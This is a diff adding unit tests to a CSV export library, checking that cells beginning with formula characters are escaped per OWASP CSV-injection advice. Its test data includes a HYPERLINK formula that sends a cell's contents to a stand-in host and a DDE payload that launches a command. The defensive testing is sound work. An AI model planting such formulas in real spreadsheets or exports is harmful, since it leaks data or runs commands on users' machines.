@@ -16,7 +16,43 @@ describe('CSV as RFC 4180 writes it', () => {
   ])('a field with %s', (_, value, expected) => {
     expect(csvField(value)).toBe(expected);
   });
+});
 
+describe('text a spreadsheet would run as a formula is neutralised (OWASP CSV injection)', () => {
+  test.each([
+    ['a HYPERLINK formula', '=HYPERLINK("http://evil.test/?x="&C2,"Click")', `"'=HYPERLINK(""http://evil.test/?x=""&C2,""Click"")"`],
+    ['an equals sign', '=1+2', `"'=1+2"`],
+    ['a plus sign', '+1+2', `"'+1+2"`],
+    ['a minus sign', "-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
+    ['an at sign', '@SUM(1,2)', `"'@SUM(1,2)"`],
+    ['a tab', '\t=1+2', `"'\t=1+2"`],
+    ['a carriage return', '\r=1+2', `"'\r=1+2"`],
+    ['an address starting with a plus', '+tag@example.com', `"'+tag@example.com"`],
+    ['a lone equals sign', '=', `"'="`],
+  ])('a field starting with %s: a single quote in front, quoted', (_, value, expected) => {
+    expect(csvField(value)).toBe(expected);
+  });
+
+  test.each([
+    ['an equals sign inside', 'a=b', 'a=b'],
+    ['a minus sign inside', 'Anne-Marie', 'Anne-Marie'],
+    ['an at sign inside', 'ada@example.com', 'ada@example.com'],
+    ['a line feed first', '\n=1', '"\n=1"'],
+    ['a space first', ' =1', ' =1'],
+    ['a single quote first', "'=1", "'=1"],
+    ['a negative number (a number, not text)', -5, '-5'],
+  ])('a field with %s is left as RFC 4180 writes it', (_, value, expected) => {
+    expect(csvField(value)).toBe(expected);
+  });
+
+  test('an export row with a formula in the name keeps every other field as it was', () => {
+    expect(toCsv(['id', 'name', 'email'], [{ id: 7, name: '=HYPERLINK("http://evil.test","x")', email: 'eve@example.com' }])).toBe(
+      `id,name,email\r\n7,"'=HYPERLINK(""http://evil.test"",""x"")",eve@example.com\r\n`,
+    );
+  });
+});
+
+describe('a CSV document', () => {
   test('a header row, then one record per row, every line ended by CRLF', () => {
     expect(
       toCsv(
